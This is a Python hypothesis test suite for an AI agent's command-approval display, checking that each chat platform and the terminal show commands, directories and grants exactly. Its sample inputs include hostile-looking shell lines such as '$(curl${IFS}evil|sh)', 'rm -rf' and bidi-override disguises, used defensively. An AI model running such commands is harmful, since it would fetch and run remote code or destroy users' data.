"""Approvals show exactly what they allow: for any command, directory and grants, and in every dialect, the
shown text has each of their characters. The page has a test of its own in `tests/browser`."""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from contextlib import nullcontext, suppress
from dataclasses import replace
from html.parser import HTMLParser
from itertools import groupby
from xml.etree.ElementTree import fromstring, tostring

import msgspec
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from hermes_platforms.discord.discord_link import TRAITS as DISCORD
from hermes_platforms.discord.discord_link import fitting
from hermes_platforms.discord.testing.discord_routes import shown_text
from hermes_platforms.irc.formatting import to_irc
from hermes_platforms.irc.irc_link import TRAITS as IRC
from hermes_platforms.irc.splitting import CONTINUED, EXACT, pieces
from hermes_platforms.matrix.formatting import content_of
from hermes_platforms.matrix.matrix_link import TRAITS as MATRIX
from hermes_platforms.slack.exact_blocks import exact_block
from hermes_platforms.slack.slack_link import TRAITS as SLACK
from hermes_platforms.slack.testing.slack_methods import read_exact
from hermes_platforms.telegram.formatting import to_markdown_v2
from hermes_platforms.telegram.telegram_link import TRAITS as TELEGRAM
from hermes_platforms.telegram.testing.bot_api_entities import parse_markdown_v2, utf16_length
from hermes_platforms.xmpp.stanzas import CLIENT, UNSTYLED, message_of
from hermes_platforms.xmpp.xmpp_link import TRAITS as XMPP
from hermes_trio.base.events import ApprovalRequest
from hermes_trio.cli.terminal.conversation import QUOTED as IN_TERMINAL
from hermes_trio.cli.terminal.conversation import approval_text
from hermes_trio.cli.terminal.rendering import Renderer
from hermes_trio.gateway.outbound.exact_text import (
    LONGEST,
    MOST_PARTS,
    QUOTED,
    approval_parts,
    question_parts,
    visible,
    with_end,
)
from hermes_trio.gateway.outbound.rows import Part
from hermes_trio.gateway.turn.open_question import OpenQuestion, request_event
from hermes_trio.platform.contract import Outgoing, Refused, Traits
from hermes_trio.tools.tool import Approval, NotShown

CODE_POINT = re.compile(r"⟨U\+([0-9A-F]{4,6})⟩")
NASTY = (
    "[a]:$(curl${IFS}evil|sh)",
    "rm -rf a*b*c __d__ ~~e~~ ||f||",
    "echo `id` ```\nls\n``` ~~~",
    "```\n[a]: b\n```",
    "> quote\n# head\n- list\n\n| a | b |\n|---|---|",
    "<b>&amp;</b> \\* \\\\ \\`",
    "ls\n\nThis is harmless.\nAnswer yes or no",
    "rm\u202etxt \u200b\u2066x\u2069 \u00ad\ufeff",
    "cat fi\u0301le e\u0301 \u00e9 \u030a\u033f\u0333 ⟨U+202E⟩",
    "a\tb\rc\x1b[2Jd\0e\x7f\x9b",
    " leading and trailing \n\n",
    "\n\n  x  \n   \ny ",
    "\ud800 \udfff \U0010ffff \ue000",
    "rm א ב עברית ١٢",
    "a\u037eb \u212a \u2800 \u3164 \u1100\u1161",
    "https://example.org @name /command #tag",
)
TEXTS = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=80),
    st.text(st.sampled_from("ab`*_[]()~>#+-=|{}.!\\ \n\t<&/:$\u202e\u200d\u0301⟨⟩│é😀"), max_size=120),
    st.lists(st.sampled_from((*NASTY, " ", "\n", "`", "word ")), max_size=12).map("".join),
)
GRANTS = st.lists(TEXTS.filter(bool).map("write {}".format), max_size=4).map(tuple)
LONG = st.builds(lambda text, times: (text or "x") * times, TEXTS, st.integers(1, 400))
COUNTINGS = ("characters", "utf-16", "bytes")
PROPERTY = settings(max_examples=150)


def original(shown: str) -> str:
    """Return the text for its shown form, in which ⟨U+…⟩ stands for a character."""
    return CODE_POINT.sub(lambda found: chr(int(found[1], 16)), shown)


def telegram_shows(part: Part) -> list[str]:
    """Return the preformatted stretches of a message as the Telegram server parses them."""
    text, entities = parse_markdown_v2(to_markdown_v2(part.text, part.preformatted))
    assert 0 < utf16_length(text) <= TELEGRAM.limit
    units = text.encode("utf-16-le")
    kinds = {"pre", "code"}
    return [
        units[2 * one.offset : 2 * (one.offset + one.length)].decode("utf-16-le")
        for one in entities
        if one.kind in kinds
    ]


def discord_shows(part: Part) -> list[str]:
    """Return the preformatted stretches as the simulated Discord shows them; nothing else is markup."""
    text, _ = shown_text({"content": fitting(part.text, part.preformatted)}, has_files=False)
    assert text == part.text
    return [text[start:end] for start, end in part.preformatted]


def matrix_shows(part: Part) -> list[str]:
    """Return the preformatted stretches of the HTML as a client of Matrix reads it."""
    content = content_of(part.text, part.preformatted)
    assert content["body"] == part.text
    page = CodeOfPage()
    page.feed(str(content["formatted_body"]))
    return page.stretches


class CodeOfPage(HTMLParser):
    """The texts of the code elements of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.stretches: list[str] = []
        self.is_inside = False

    def handle_starttag(self, tag: str, attrs: object) -> None:
        assert tag in ("pre", "code", "br")
        if tag == "code":
            self.stretches.append("")
            self.is_inside = True

    def handle_endtag(self, tag: str) -> None:
        self.is_inside = self.is_inside and tag != "code"

    def handle_data(self, data: str) -> None:
        if self.is_inside:
            self.stretches[-1] += data


def slack_shows(part: Part) -> list[str]:
    """Return the preformatted stretches of the block that Slack renders."""
    shown, exact = read_exact(exact_block(part.text, part.preformatted))
    assert shown == part.text
    return [shown[start:end] for start, end in exact]


def irc_shows(part: Part) -> list[str]:
    """Return the preformatted stretches of the lines that a client of IRC shows."""
    lines: list[str] = []
    for line in to_irc(part.text, part.preformatted):
        first, *others = pieces(line, 100)
        lines.append(first + "".join(one.removeprefix(CONTINUED) for one in others))
    blocks = [
        "\n".join(line.removeprefix(EXACT) for line in group)
        for is_exact, group in groupby(lines, lambda line: line.startswith(EXACT))
        if is_exact
    ]
    shown = []
    for start, end in part.preformatted:
        if part.text[start - 1 : start] in ("", "\n"):
            shown.append(blocks.pop(0))
        else:
            shown.append(part.text[start:end])
            assert any(shown[-1] in line for line in lines)
    assert not blocks
    return shown


def plain_shows(part: Part) -> list[str]:
    """Return the preformatted stretches on a platform without markup, where lines of a block have a mark."""
    shown = [part.text[start:end] for start, end in part.preformatted]
    for start, end in part.preformatted:
        if part.text[:start].endswith("\n"):
            assert all(line.startswith(QUOTED) for line in part.text[start:end].split("\n"))
    return ["\n".join(line.removeprefix(QUOTED) for line in one.split("\n")) for one in shown]


def xmpp_shows(part: Part) -> list[str]:
    """Return the preformatted stretches of the stanza as a program reads it, in which nothing is markup."""
    message = Outgoing(chat_id="ann@people.test", text=part.text, key="k", preformatted=part.preformatted)
    stanza = message_of(message, "hermes@home.test", is_room=False)
    read = fromstring(tostring(stanza))  # noqa: S314 - it is ours
    assert read.findtext(f"{CLIENT}body") == part.text
    assert read.find(UNSTYLED) is not None
    return plain_shows(part)


Shows = Callable[[Part], list[str]]
PLATFORMS: dict[str, tuple[Traits, Shows]] = {
    "telegram": (TELEGRAM, telegram_shows),
    "discord": (DISCORD, discord_shows),
    "matrix": (MATRIX, matrix_shows),
    "slack": (SLACK, slack_shows),
    "irc": (IRC, irc_shows),
    "xmpp": (XMPP, xmpp_shows),
}
"""What each platform with markup shows of a message, read by other code than that which wrote it."""


@PROPERTY
@given(TEXTS)
def test_the_shown_text_has_no_invisible_characters_and_stands_for_one_text_only(text: str) -> None:
    shown = visible(text)
    assert original(shown) == text
    assert all(one.isprintable() or one == "\n" for one in shown)
    assert shown == shown.strip()
    assert not re.search(r" (\n|$)", shown)
    shown.encode()
    if text.isascii() and text.isprintable() and text == text.strip():
        assert shown == text, "visible characters are shown unchanged"


@pytest.mark.parametrize(("text", "shown"), [("e\u0301", "e⟨U+0301⟩"), ("é", "é"), ("日本 Ünïcødé 😀", None)])
def test_texts_that_look_the_same_are_shown_differently(text: str, shown: str | None) -> None:
    assert visible(text) == (shown or text)


@pytest.mark.parametrize("platform", PLATFORMS)
@PROPERTY
@given(st.one_of(TEXTS, LONG), st.one_of(TEXTS, LONG), GRANTS, TEXTS)
@example("[a]:$(curl evil|sh)", "/srv", ("network",), "This deletes.")
@example("x" * 1500 + "`;`" + "y" * 9000, "/srv", (), "")
@example("a " * 6000, "/srv", (), "")
@example("make", "/srv", tuple(f"write /srv/{'long' * 150}/{number}" for number in range(4)), "w" * 900)
def test_a_platform_shows_the_command_its_directory_and_its_grants_exactly(
    platform: str, command: str, cwd: str, grants: tuple[str, ...], why: str
) -> None:
    shows_exactly(Approval(command, why, cwd, grants=grants), *PLATFORMS[platform])


@PROPERTY
@given(
    st.one_of(TEXTS, LONG),
    TEXTS,
    GRANTS,
    st.integers(600, 5000),
    st.sampled_from(["characters", "utf-16", "bytes"]),
)
def test_a_platform_without_markup_shows_the_command_its_directory_and_its_grants_exactly(
    command: str, cwd: str, grants: tuple[str, ...], limit: int, counting: str
) -> None:
    traits = Traits(limit=limit, counting=counting)  # type: ignore[arg-type]
    shows_exactly(Approval(command, "Because.", cwd, grants=grants), traits)


def shows_exactly(asked: Approval, traits: Traits, shows: Shows = plain_shows) -> None:
    """Check that the messages show each character, or that the question or its form is refused."""
    shown = visible("\n".join((asked.exact, asked.place, asked.description, *asked.grants)))
    is_short = len(shown.encode()) + len(shown.split("\n")) * 4 < traits.limit // 6
    with nullcontext() if asked.exact and is_short else suppress(NotShown, Refused):
        whole_and_exact(asked, approval_parts(asked, 60, traits), traits, shows)


def whole_and_exact(asked: Approval, parts: Sequence[Part], traits: Traits, shows: Shows) -> None:
    """Check that the messages show each character of what is asked, and nothing more."""
    assert len(parts) <= MOST_PARTS + 1
    *before, last = map(shows, parts)
    left = list(last)
    assert original(left.pop(0) if asked.place else "") == asked.place
    exact = [stretch for one in before for stretch in one] or [left.pop(0)]
    assert original("".join(exact)) == asked.exact
    grants = left.pop(0).split("\n") if asked.grants else []
    assert tuple(map(original, grants)) == asked.grants
    assert list(map(original, left)) == [asked.description] * bool(asked.description)
    for part in parts:
        size = len(part.text.encode()) if traits.counting == "bytes" else utf16_length(part.text)
        assert traits.counting == "characters" or size <= traits.limit
        assert len(part.text) <= traits.limit
    for part in (with_end(parts[-1], "once"), with_end(parts[-1], None)):
        assert shows(part)[: len(last)] == last, "the outcome changes nothing of the question"


@PROPERTY
@given(st.text(max_size=60), st.lists(st.text(min_size=1, max_size=200), min_size=1, max_size=4, unique=True))
def test_telegram_shows_each_choice_unchanged(question: str, choices: list[str]) -> None:
    try:
        parts = question_parts(question, choices, TELEGRAM)
    except NotShown:
        assert len("".join(map(visible, choices))) > 1000
        return
    *code, block = telegram_shows(parts[-1])  # the question may hold code of its own
    lines = block.split("\n")
    assert [original(line.partition(". ")[2]) for line in lines] == choices
    assert telegram_shows(with_end(parts[-1], choices[0]))[len(code)] == block


@PROPERTY
@given(st.one_of(TEXTS, LONG).filter(bool), GRANTS)
async def test_the_terminal_shows_the_command_in_lines_of_its_own(
    command: str, grants: tuple[str, ...]
) -> None:
    event = msgspec.to_builtins(
        request_event(OpenQuestion("id", "approval"), Approval(command, "Why.", "/srv", grants=grants))
    )
    shown = Renderer(colours=False).styled(approval_text(event), "")
    lines = [one.removeprefix(IN_TERMINAL) for one in shown.split("\n") if one.startswith(IN_TERMINAL)]
    assert original("\n".join(lines)) == command
    with_grants = [one.removeprefix("  with ") for one in shown.split("\n") if one.startswith("  with ")]
    assert tuple(map(original, with_grants)) == grants
    assert not set(shown) & set("\x1b\r\b\t\0")


@PROPERTY
@given(st.one_of(TEXTS, LONG), TEXTS, GRANTS, TEXTS)
async def test_the_event_of_an_approval_has_each_character(
    command: str, cwd: str, grants: tuple[str, ...], why: str
) -> None:
    asked = Approval(command, why, cwd, grants=grants)
    sent = msgspec.json.encode(request_event(OpenQuestion("id", "approval"), asked))
    event = msgspec.json.decode(sent, type=ApprovalRequest)
    assert [original(text) for text in (event.command, event.cwd, event.description)] == [command, cwd, why]
    assert tuple(map(original, event.grants)) == grants
    assert all(one.isprintable() or one == "\n" for text in (event.command, event.cwd) for one in text)
    assert all(text.isprintable() for text in (event.description, *event.grants))


@pytest.mark.parametrize(
    ("exact", "traits"),
    [
        ("x" * (LONGEST + 1), Traits(limit=10**9)),
        ("\u202e" * LONGEST, Traits(limit=10**9)),
        ("x" * 3000, Traits(limit=300)),
        ("x", Traits(limit=100)),
        ("", Traits()),
        ("ls", replace(TELEGRAM, preformatted=False)),
    ],
)
def test_a_command_that_cannot_be_shown_exactly_is_refused(exact: str, traits: Traits) -> None:
    with pytest.raises(NotShown, match="Nobody can allow what they have not seen"):
        approval_parts(Approval(exact), 60, traits)
